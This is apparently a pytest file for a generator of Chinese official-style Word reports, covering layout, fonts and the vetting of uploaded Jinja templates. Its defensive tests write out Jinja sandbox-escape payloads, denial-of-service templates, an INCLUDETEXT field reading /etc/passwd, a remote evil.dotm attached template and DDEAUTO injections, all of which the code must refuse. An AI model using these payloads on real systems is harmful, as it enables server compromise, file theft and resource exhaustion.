"""The annual report's Word side: the default GB/T 9704 template, the sandbox, upload checks."""

import copy
import io
import re
import shutil
import subprocess
import zipfile

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH, WD_LINE_SPACING
from docx.oxml.ns import qn

from reports.docx import (
    CONTEXT_VARIABLES,
    TemplateRefused,
    check_template,
    docx_to_pdf,
    pdf_available,
    render_report,
    sample_context,
)
from reports.docx_template import DEFAULT_TEMPLATE_PATH, build_default_template

# --------------------------------------------------------------------------- helpers


def _open(data: bytes):
    return Document(io.BytesIO(data))


def _rendered(**changes):
    context = sample_context()
    context.update(changes)
    return _open(render_report(context))


def _template(*texts: str) -> bytes:
    """A small brigade template: one paragraph per text."""
    document = Document()
    for text in texts:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _paragraphs(document, style: str) -> list[str]:
    return [p.text for p in document.paragraphs if p.style.name == style]


def _fonts(style) -> dict:
    fonts = style.element.rPr.rFonts
    return {key: fonts.get(qn(f"w:{key}")) for key in ("eastAsia", "ascii", "hAnsi", "hint")}


@pytest.fixture(scope="module")
def report():
    return _open(render_report(sample_context()))


# --------------------------------------------------------------------------- the default template


def test_sample_context_follows_the_contract():
    context = sample_context()
    assert set(context) == set(CONTEXT_VARIABLES)
    assert set(context["brigade"]) == {"name", "short_name"}
    for section in context["sections"]:
        assert set(section) == {"heading", "paragraphs", "subsections"}


def test_title_is_centred_in_xiaobiaosong_and_broken_before_guanyu(report):
    context = sample_context()
    [title] = [p for p in report.paragraphs if p.style.name == "报告标题"]
    assert title.text.replace("\n", "") == context["title"]
    assert title.text == "双牌县公安局交通警察大队\n关于2025年法治政府建设情况的报告"
    assert title.style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert title.style.font.size.pt == 22
    assert _fonts(title.style)["eastAsia"] == "方正小标宋简体"
    assert report.core_properties.title == context["title"]


def test_a_long_organ_name_is_left_to_wrap():
    name = "中共淄博市公安局交通警察支队淄川大队总支部委员会"
    document = _rendered(title=f"{name}关于2023年法治政府建设工作情况的报告")
    assert _paragraphs(document, "报告标题") == [f"{name}关于2023年法治政府建设工作情况的报告"]


def test_head_has_doc_number_left_and_signer_right_in_kaiti(report):
    [line] = [p for p in report.paragraphs if p.style.name == "发文字号"]
    assert line.text == "\t双公交〔2026〕3号\t签发人：张建国"
    tabs = line.style.element.pPr.find(qn("w:tabs"))
    assert [t.get(qn("w:val")) for t in tabs] == ["left", "right"]
    [name_run] = [r for r in line.runs if r.text == "张建国"]
    assert name_run.style.name == "签发人姓名"
    assert _fonts(name_run.style)["eastAsia"] == "楷体_GB2312"
    assert _fonts(line.style)["eastAsia"] == "仿宋_GB2312"
    # The organ's mark above it; the red rule under it.
    assert _paragraphs(report, "发文机关标志") == ["双牌县公安局交通警察大队文件"]
    border = line.style.element.pPr.find(qn("w:pBdr")).find(qn("w:bottom"))
    assert border.get(qn("w:color")) == "FF0000"


def test_empty_doc_number_leaves_out_the_number_but_keeps_the_signer():
    document = _rendered(doc_number="")
    assert _paragraphs(document, "发文字号") == ["\t\t签发人：张建国"]
    assert not any("〔" in p.text for p in document.paragraphs)


def test_no_doc_number_and_no_signer_still_has_the_head_with_its_red_rule():
    """The 红头 is always there (tests/reports/test_layout.py looks at it in detail)."""
    document = _rendered(doc_number="", signer="")
    assert [p.style.name for p in document.paragraphs[:3]] == ["发文机关标志", "发文字号", "报告标题"]
    assert _paragraphs(document, "发文机关标志") == ["双牌县公安局交通警察大队文件"]
    assert _paragraphs(document, "发文字号") == [""]  # empty: only its red bottom border shows
    assert not any("签发人" in p.text for p in document.paragraphs)


def test_addressee_line_is_flush_left_with_a_colon(report):
    [line] = [p for p in report.paragraphs if p.style.name == "主送机关"]
    assert line.text == "中共双牌县委："
    assert line.style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.LEFT
    assert line.style.element.pPr.find(qn("w:ind")) is None
    assert _paragraphs(_rendered(addressee=""), "主送机关") == []


def test_headings_in_order_with_their_styles(report):
    expected = []
    for section in sample_context()["sections"]:
        expected.append((section["heading"], "一级标题"))
        expected += [(sub["heading"], "二级标题") for sub in section["subsections"]]
    headings = [(p.text, p.style.name) for p in report.paragraphs if p.style.name in ("一级标题", "二级标题")]
    assert headings == expected

    level1, level2 = report.styles["一级标题"], report.styles["二级标题"]
    assert _fonts(level1)["eastAsia"] == "黑体"
    assert _fonts(level2)["eastAsia"] == "楷体_GB2312"
    for style in (level1, level2):
        assert style.font.size.pt == 16
        assert style.font.bold is False


def test_every_body_paragraph_is_its_own_paragraph_in_the_body_style(report):
    context = sample_context()
    texts = [p.text for p in report.paragraphs]
    expected = [context["opening"], context["closing"]]
    for section in context["sections"]:
        expected += section["paragraphs"]
        for sub in section["subsections"]:
            expected += sub["paragraphs"]
    last_body = (context["sections"][-1]["subsections"] or [context["sections"][-1]])[-1]["paragraphs"][-1]
    for text in expected:
        assert texts.count(text) == 1, text
        style = report.paragraphs[texts.index(text)].style
        wanted = {context["closing"]: "结束语", last_body: "正文末段"}.get(text, "报告正文")
        assert style.name == wanted, text
    # The body's last lines, 特此报告 and the signature keep together (never alone on a page).
    for name in ("正文末段", "结束语", "落款"):
        assert report.styles[name].paragraph_format.keep_with_next, name
    # A paragraph directly under a heading follows it.
    section3 = context["sections"][2]
    assert texts[texts.index(section3["heading"]) + 1] == section3["paragraphs"][0]
    # Nothing of the template's tags is left.
    assert not any("{%" in t or "{{" in t for t in texts)


def test_body_style_indents_two_characters_on_fixed_lines(report):
    body = report.styles["报告正文"]
    ind = body.element.pPr.find(qn("w:ind"))
    assert ind.get(qn("w:firstLineChars")) == "200"
    assert body.paragraph_format.first_line_indent.pt == 32
    assert body.paragraph_format.line_spacing_rule == WD_LINE_SPACING.EXACTLY
    assert 28 <= body.paragraph_format.line_spacing.pt <= 29
    # 22 lines fit the 225 mm text block.
    assert 22 * body.paragraph_format.line_spacing.pt <= 225 / 25.4 * 72
    assert body.font.size.pt == 16
    assert _fonts(body)["eastAsia"] == "仿宋_GB2312"


def test_signature_and_date_right_aligned_date_four_characters_in(report):
    issuer, date = report.paragraphs[-2:]
    assert (issuer.text, issuer.style.name) == ("双牌县公安局交通警察大队", "落款")
    assert (date.text, date.style.name) == ("2026年1月12日", "成文日期")
    for style in (issuer.style, date.style):
        assert style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.RIGHT
    assert date.style.paragraph_format.right_indent.pt == 4 * 16


def test_a4_page_and_gb_margins(report):
    section = report.sections[0]
    measured = [
        section.page_width.mm,
        section.page_height.mm,
        section.top_margin.mm,
        section.bottom_margin.mm,
        section.left_margin.mm,
        section.right_margin.mm,
    ]
    assert measured == pytest.approx([210, 297, 37, 35, 28, 26], abs=0.5)
    assert section.page_width.mm - section.left_margin.mm - section.right_margin.mm == pytest.approx(
        156, abs=0.5
    )
    assert section.page_height.mm - section.top_margin.mm - section.bottom_margin.mm == pytest.approx(
        225, abs=0.5
    )


def test_east_asian_fonts_are_set_in_the_styles(report):
    expected = {
        "Normal": "仿宋_GB2312",
        "报告正文": "仿宋_GB2312",
        "报告标题": "方正小标宋简体",
        "一级标题": "黑体",
        "二级标题": "楷体_GB2312",
        "主送机关": "仿宋_GB2312",
        "落款": "仿宋_GB2312",
        "成文日期": "仿宋_GB2312",
        "页码（单页）": "宋体",
        "页码（双页）": "宋体",
    }
    for name, east_asia in expected.items():
        fonts = _fonts(report.styles[name])
        assert fonts["eastAsia"] == east_asia, name
        assert fonts["hint"] == "eastAsia", name
    for name in ("报告正文", "报告标题", "一级标题", "二级标题"):
        assert _fonts(report.styles[name])["ascii"] == "Times New Roman"
    defaults = report.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault")).find(qn("w:rPr"))
    assert defaults.find(qn("w:rFonts")).get(qn("w:eastAsia")) == "仿宋_GB2312"
    # No run carries its own fonts: a brigade editing in Word changes a style, not every run.
    body = report.element.body
    assert body.findall(".//" + qn("w:rFonts")) == []


# ECMA-376 order of the properties used here; Word declares a file corrupt when it is broken.
PPR_ORDER = "keepNext keepLines pBdr tabs snapToGrid spacing ind jc outlineLvl rPr".split()
RPR_ORDER = "rStyle rFonts b bCs color spacing kern sz szCs lang".split()


def test_style_properties_follow_the_schema_order(report):
    styles = report.styles.element
    for style in [*styles.findall(qn("w:style")), styles.find(qn("w:docDefaults"))]:
        for container, order in ((qn("w:pPr"), PPR_ORDER), (qn("w:rPr"), RPR_ORDER)):
            for props in style.iter(container):
                tags = [child.tag.split("}")[1] for child in props]
                known = [tag for tag in tags if tag in order]
                assert known == sorted(known, key=order.index), (style.get(qn("w:styleId")), tags)


def test_footer_has_page_numbers_odd_right_even_left(report):
    section = report.sections[0]
    assert report.settings.odd_and_even_pages_header_footer
    for footer, alignment in (
        (section.footer, WD_ALIGN_PARAGRAPH.RIGHT),
        (section.even_page_footer, WD_ALIGN_PARAGRAPH.LEFT),
    ):
        [paragraph] = footer.paragraphs
        xml = paragraph._p.xml
        instructions = [node.text for node in paragraph._p.iter(qn("w:instrText"))]
        assert [i.strip() for i in instructions] == ["PAGE"], xml
        assert paragraph.text == "— 1 —"
        assert paragraph.style.paragraph_format.alignment == alignment
        assert paragraph.style.font.size.pt == 14


def test_xml_special_characters_come_out_as_typed():
    tricky = "A&B <c> \"引号\" '单' 5>3 & 2<4"
    context = sample_context()
    context["title"] = f"双牌县公安局交通警察大队关于{tricky}的报告"
    context["opening"] = tricky
    context["addressee"] = "中共双牌县委 & <县政府>"
    context["sections"][0]["subsections"][0]["paragraphs"] = [tricky]
    document = _open(render_report(context))
    texts = [p.text for p in document.paragraphs]
    assert texts.count(tricky) == 2
    assert "中共双牌县委 & <县政府>：" in texts
    assert f"关于{tricky}的报告" in _paragraphs(document, "报告标题")[0]
    assert document.core_properties.title == context["title"]


def test_control_characters_from_pasted_text_do_not_break_the_document():
    context = sample_context()
    context["opening"] = "第一行\x0b第二行\r\n第三行\x01"
    document = _open(render_report(context))
    assert "第一行\n第二行\n第三行" in [p.text for p in document.paragraphs]


def test_the_committed_default_template_is_what_the_script_builds():
    built = zipfile.ZipFile(io.BytesIO(build_default_template()))
    committed = zipfile.ZipFile(DEFAULT_TEMPLATE_PATH)
    assert sorted(built.namelist()) == sorted(committed.namelist())
    for name in built.namelist():
        if name != "docProps/core.xml":
            assert built.read(name) == committed.read(name), f"{name}: run python -m reports.docx_template"
    assert check_template(DEFAULT_TEMPLATE_PATH.read_bytes()) == []


def test_render_does_not_change_the_callers_context():
    context = sample_context()
    before = copy.deepcopy(context)
    render_report(context)
    assert context == before


# --------------------------------------------------------------------------- brigade templates, sandbox


BRIGADE_TEMPLATE = (
    "{{ title }}",
    "{%p if doc_number %}",
    "{{ doc_number }} 签发人：{{ signer }}",
    "{%p endif %}",
    "{{ addressee }}：",
    "{{ opening }}",
    "{%p for s in sections %}",
    "{{ loop.index }}. {{ s.heading }}",
    "{%p for p in s.paragraphs %}",
    "{{ p }}",
    "{%p endfor %}",
    "{%p for sub in s.subsections %}",
    "{{ sub.heading }}：{{ sub.paragraphs|join('') }}",
    "{%p endfor %}",
    "{%p endfor %}",
    "{{ closing }}",
    "{{ issuer }}（{{ brigade.short_name }}）",
    "{{ date }}（{{ year }}年度）",
)


def test_a_brigade_template_with_documented_variables_passes_and_renders():
    data = _template(*BRIGADE_TEMPLATE)
    assert check_template(data) == []
    texts = [p.text for p in _open(render_report(sample_context(), data)).paragraphs]
    assert texts[0] == sample_context()["title"]
    assert "1. 一、2025年推进法治政府建设的主要举措和成效" in texts
    assert "双牌县公安局交通警察大队（双牌交警大队）" in texts
    assert "2026年1月12日（2025年度）" in texts


MALICIOUS = [
    ("{{ ''.__class__.__mro__ }}", "__class__"),
    ("{{ cycler.__init__.__globals__ }}", "__globals__"),
    ("{{ title.__globals__ }}", "__globals__"),
    ("{{ title|attr('__class__') }}", "__class__"),
    ("{{ sections|map(attribute='__class__')|list }}", "__class__"),
    # Built at run time: only the sandbox itself can see it.
    ("{{ title['__cla' ~ 'ss__'] }}", "__class__"),
]


@pytest.mark.parametrize(("expression", "attribute"), MALICIOUS)
def test_templates_reaching_for_python_internals_are_refused(expression, attribute):
    data = _template("{{ title }}{{ sections|length }}", expression)
    with pytest.raises(TemplateRefused, match=attribute) as refused:
        render_report(sample_context(), data)
    assert "内部属性" in str(refused.value)
    problems = check_template(data)
    assert any("内部属性" in p and attribute in p for p in problems), problems


def test_internals_in_a_branch_the_sample_would_not_take_are_refused_at_upload():
    data = _template("{{ title }}{{ sections }}", "{% if year == 1900 %}{{ title.__class__ }}{% endif %}")
    problems = check_template(data)
    assert len(problems) == 1 and "__class__" in problems[0]
    with pytest.raises(TemplateRefused, match="__class__"):
        render_report(sample_context(), data)


def test_unknown_variables_are_named():
    problems = check_template(_template("{{ title }}{{ sections }}", "{{ secret }} {{ password }}"))
    assert any("“secret”" in p for p in problems)
    assert any("“password”" in p for p in problems)
    with pytest.raises(TemplateRefused, match="secret"):
        render_report(sample_context(), _template("{{ secret }}"))


def test_unknown_attributes_show_when_the_sample_is_rendered():
    problems = check_template(_template("{{ title }}{{ sections }}{{ brigade.secret }}"))
    assert len(problems) == 1 and "secret" in problems[0]


def test_a_template_without_title_or_sections_is_reported():
    problems = check_template(_template("{{ opening }}"))
    assert any("title" in p for p in problems)
    assert any("sections" in p for p in problems)


def test_jinja_syntax_errors_are_reported_with_the_nearby_text():
    data = _template("{{ title }}", "{%p for s in sections %}", "{{ s.heading }}")
    problems = check_template(data)
    assert len(problems) == 1 and problems[0].startswith("模板语法错误"), problems
    assert "endfor" in problems[0]
    with pytest.raises(TemplateRefused, match="模板语法错误"):
        render_report(sample_context(), data)

    problems = check_template(_template("{{ title }}{{ sections }}", "这里有个 {{ opening 没有闭合"))
    assert len(problems) == 1 and "这里有个" in problems[0], problems


def test_runtime_failures_are_reported_not_raised():
    problems = check_template(_template("{{ title }}{{ sections }}", "{{ year / 0 }}"))
    assert len(problems) == 1 and "试生成" in problems[0]


def _zip(**files) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"hello", "不是有效的 Word"),
        (b"", "空的"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, ".doc"),
        (_zip(**{"a.txt": "x"}), "word/document.xml"),
        (_zip(**{"word/document.xml": "<w:document/>"}), "无法读取"),
    ],
)
def test_uploads_that_are_not_docx_are_refused(data, words):
    problems = check_template(data)
    assert len(problems) == 1 and words in problems[0], problems
    with pytest.raises(TemplateRefused):
        render_report(sample_context(), data)


def test_fields_and_links_that_fetch_outside_content_are_refused():
    document = Document()
    paragraph = document.add_paragraph("{{ title }}{{ sections }}")
    # A complex field whose instruction Word has split over two runs.
    for tag, attrs, text in (
        ("w:fldChar", {qn("w:fldCharType"): "begin"}, None),
        ("w:instrText", {}, " INCLUDE"),
        ("w:instrText", {}, 'TEXT "file:///etc/passwd" '),
        ("w:fldChar", {qn("w:fldCharType"): "end"}, None),
    ):
        run = paragraph.add_run()
        node = run._r.makeelement(qn(tag), attrs)
        node.text = text
        run._r.append(node)
    # A remote "attached template", the way phishing documents fetch their payload.
    document.part._settings_part.rels.get_or_add_ext_rel(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        "http://example.com/evil.dotm",
    )
    out = io.BytesIO()
    document.save(out)
    problems = check_template(out.getvalue())
    assert any("INCLUDETEXT" in p for p in problems), problems
    assert any("example.com/evil.dotm" in p for p in problems), problems
    with pytest.raises(TemplateRefused):
        render_report(sample_context(), out.getvalue())


# --------------------------------------------------------------------------- PDF


def test_docx_to_pdf_without_libreoffice_gives_none(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    assert not pdf_available()
    assert docx_to_pdf(b"anything") is None


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_the_sample_report_converts_to_an_a4_pdf(tmp_path):
    pdf = docx_to_pdf(render_report(sample_context()))
    assert pdf.startswith(b"%PDF")
    if shutil.which("pdftotext") and shutil.which("pdffonts"):
        path = tmp_path / "report.pdf"
        path.write_bytes(pdf)
        text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout
        assert "法治政府建设情况的报告" in text
        assert re.search(r"—\s*1\s*—", text)
        # The aliases in reports/fontconfig put serif and kai fonts where the styles ask for 仿宋/楷体.
        fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True).stdout
        assert "NotoSerifCJK" in fonts and "UKai" in fonts


# --------------------------------------------------------------------------- bounded and inert

COSTLY = [
    ("{% for i in range(100000) %}{% for j in range(3000) %}x{% endfor %}{% endfor %}", "range 过大"),
    ("{% for i in range(9000) %}{% for j in range(9000) %}{{ i }}{% endfor %}{% endfor %}", "步骤过多"),
    ("{{ 'x' * 200000000 }}", "内容过长"),
    ("{{ ['x'] * 10**8 }}", "内容过长"),
    ("{{ 2**100000 }}", "数字过大"),
    ("{{ '%0999999999d' % 1 }}", "格式宽度"),
    ("{{ '{:>999999999}'.format(1) }}", "格式宽度"),
    ("{{ title|center(999999999) }}", "过大"),
    ("{{ 'x'|indent(999999999) }}", "过大"),
    (
        "{% for a in sections %}{% for b in sections %}{% for c in sections %}{% for d in sections %}"
        "{% for e in sections %}.{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
        "循环嵌套",
    ),
]


@pytest.mark.parametrize(("expression", "reason"), COSTLY)
def test_templates_that_would_hog_a_worker_are_refused_quickly_at_upload_and_render(expression, reason):
    import time

    data = _template("{{ title }}{{ sections|length }}", expression)
    started = time.monotonic()
    problems = check_template(data)
    assert any(reason in p for p in problems), problems
    with pytest.raises(TemplateRefused, match=reason):
        render_report(sample_context(), data)
    assert time.monotonic() - started < 15


@pytest.mark.parametrize(
    "expression",
    [
        "{{ '<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>'|safe }}",
        "{% autoescape false %}{{ '</w:t></w:r><w:r><w:instrText> DDEAUTO c:\\\\x </w:instrText></w:r>' }}{% endautoescape %}",
    ],
)
def test_no_template_can_turn_text_into_document_xml(expression):
    data = _template("{{ title }}{{ sections|length }}", expression)
    assert check_template(data)
    with pytest.raises(TemplateRefused):
        render_report(sample_context(), data)


def test_text_that_looks_like_a_field_stays_text():
    context = sample_context() | {
        "opening": '</w:t></w:r><w:r><w:instrText> DDEAUTO "c:\\\\cmd" </w:instrText></w:r>'
    }
    document = _open(render_report(context))
    assert any("DDEAUTO" in p.text for p in document.paragraphs)  # shown as typed…
    xml = document.element.xml
    assert "<w:instrText> DDEAUTO" not in xml  # …never a field


def test_a_rendered_document_with_a_field_or_an_outside_link_is_refused(monkeypatch):
    """Whatever made it (a template trick not foreseen), the rendered file is checked itself."""
    from reports import docx as module

    bad = _template("{{ title }}{{ sections|length }}")
    document = Document(io.BytesIO(bad))
    run = document.paragraphs[0].add_run()
    for kind, text in (("begin", None), (None, ' INCLUDEPICTURE "http://x.example/a.png" '), ("end", None)):
        if kind:
            element = run._r.makeelement(qn("w:fldChar"), {qn("w:fldCharType"): kind})
        else:
            element = run._r.makeelement(qn("w:instrText"), {})
            element.text = text
        run._r.append(element)
    out = io.BytesIO()
    document.save(out)
    assert module._rendered_problems(out.getvalue())
    assert not module._rendered_problems(render_report(sample_context()))  # the default: page numbers only


def test_a_template_that_prints_too_much_is_refused_before_it_fills_the_memory():
    import resource

    data = _template(
        "{{ title }}{{ sections|length }}",
        '{% set s = "x" * 199999 %}{% for i in range(10000) %}{{ s }}{% endfor %}',
    )
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TemplateRefused, match="内容过多"):
        render_report(sample_context(), data)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 200
